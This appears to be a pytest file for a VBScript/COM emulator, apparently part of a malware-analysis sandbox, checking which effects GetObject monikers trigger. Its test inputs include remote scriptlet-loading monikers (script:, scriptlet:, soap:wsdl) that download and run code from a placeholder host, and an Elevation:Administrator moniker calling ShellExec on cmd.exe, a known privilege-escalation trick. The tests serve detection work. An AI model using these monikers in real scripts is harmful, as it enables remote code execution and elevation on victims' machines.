import pytest
from evaluate.com.program import run


@pytest.mark.parametrize(
    ("name", "effects"),
    [
        ("script:https://files.example.test/a.sct", ["download", "eval"]),
        ("scriptlet:http://files.example.test/a.sct", ["download", "eval"]),
        ("soap:wsdl=http://files.example.test/a.txt", ["download", "eval"]),
        ("http://files.example.test/a", ["download"]),
        ("C:\\Users\\Public\\a.xls", ["open"]),
        ("file:///C:/a.doc", ["open"]),
        ("WinNT://CORP/tanaka", []),
        ("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}", []),
    ],
)
def test_what_a_name_does(name, effects):
    outcome = run(f'Set x = GetObject("{name}")')
    assert outcome.error == 0
    assert [kind for kind, _ in outcome.effects()] == effects


def test_elevated_object():
    outcome = run('GetObject("Elevation:Administrator!new:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}").ShellExec "cmd.exe", "/c 1", "", 0, 0')
    assert outcome.effects() == [("run", "cmd.exe /c 1")]


def test_scriptlet_that_was_written():
    outcome = run(
        """
        Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\Users\\Public\\a.sct"): f.Write "<scriptlet/>"
        Set x = GetObject("script:C:\\Users\\Public\\a.sct")
        """
    )
    assert outcome.effects() == [("write", r"C:\Users\Public\a.sct"), ("eval", r"C:\Users\Public\a.sct")]
    assert outcome.texts() == ["<scriptlet/>"]


def test_files_that_are_not_there():
    assert run('Set x = GetObject("C:\\nothing.xyz")').error == 432
